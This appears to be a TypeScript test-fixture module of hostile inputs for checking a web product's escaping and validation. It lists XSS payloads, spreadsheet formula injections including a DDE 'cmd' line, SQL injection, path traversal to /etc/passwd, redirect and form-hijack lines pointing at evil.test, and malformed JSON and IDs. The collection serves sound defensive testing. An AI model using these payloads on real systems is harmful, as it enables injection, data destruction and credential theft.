/** Where a page that runs something of a visitor's or an administrator's leaves a mark. */
export const TRIPWIRE = '__hit';

const RUN = `window.${TRIPWIRE}=1`;

/** Texts that run as code if a page does not escape them. Each fits into the shortest field. */
export const RUNS_SOMEWHERE = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload="${RUN}">`,
  `' onfocus='${RUN}' autofocus x='`,
  `" onmouseover="${RUN}" x="`,
  `javascript:${RUN}`,
  `</title><svg/onload=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `<!--</script><script>${RUN}//-->`,
  `]]><script>${RUN}</script>`,
  `\u2028${RUN}\u2029</script>`,
  `{"__proto__":{"${TRIPWIRE}":1}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<iframe srcdoc="<script>top.${TRIPWIRE}=1</script>">`,
  `<style>@import'//evil.test/x';</style>`,
  `<base href=//evil.test/>`,
  `<meta http-equiv=refresh content="0;//evil.test">`,
  `<form action=//evil.test><button>Save`,
  `data:text/html,<script>${RUN}</script>`,
];

/** Texts that a spreadsheet runs as formulas, or reads as something else. */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.test","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  "x;=cmd|' /C calc'!A0;",
];

/** Letters that turn, hide, stack or take no room. */
export const ODD_LETTERS = [
  '\u202egnp.exe\u202c',
  '\u2066\u202eabc\u2069',
  'مرحبا <b>سلام</b>',
  '\u200b\u200c\u200d\ufeff',
  `Z${'\u0301'.repeat(40)}`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\ufffd\uffff\u{10ffff}',
  'ﷺ'.repeat(20),
  'İıſ\u1e9e',
  '%00%0a%0d',
  '\\u0000 \\x00 \\',
  "'; drop table workers; --",
  '%_\\%',
  '../../../etc/passwd',
  'W'.repeat(58),
];

/** Texts with characters that the product refuses. */
const REFUSED_TEXTS = [
  'a\u0000b',
  '\u0001',
  'a\u001fb',
  '\u007f',
  '\ud800',
  'a\udc00b',
  '\udfff\ud800',
  'x'.repeat(1_000_000),
];

export const HOSTILE_TEXTS = [...RUNS_SOMEWHERE, ...FORMULAS, ...ODD_LETTERS, ...REFUSED_TEXTS];

const nested = (open: string, close: string, depth: number) =>
  open.repeat(depth) + close.repeat(depth);

/** JSON that is no text, or no JSON; as it travels. */
export const WRONG_TYPES = [
  'null',
  'true',
  '0',
  '-1',
  '1.5',
  '1e3',
  '1e400',
  '-0',
  '9223372036854775808',
  '9007199254740993',
  '[]',
  '{}',
  '["a"]',
  '{"toString":"a"}',
  '{"__proto__":null}',
  nested('[', ']', 10_000),
  nested('{"a":', '}', 5_000).replace('{}', '{"a":1}'),
];

/** Numbers of rows, as somebody might write them into an address. */
export const ODD_IDS = [
  '0',
  '-1',
  '1.5',
  '1e3',
  '9223372036854775808',
  '2147483648',
  '99999999999999999999999',
  'NaN',
  'Infinity',
  '0x1',
  '1%00',
  '%20',
  '..%2f1',
  '%EF%BC%91',
  "1'--",
  'null',
  'x'.repeat(500),
];
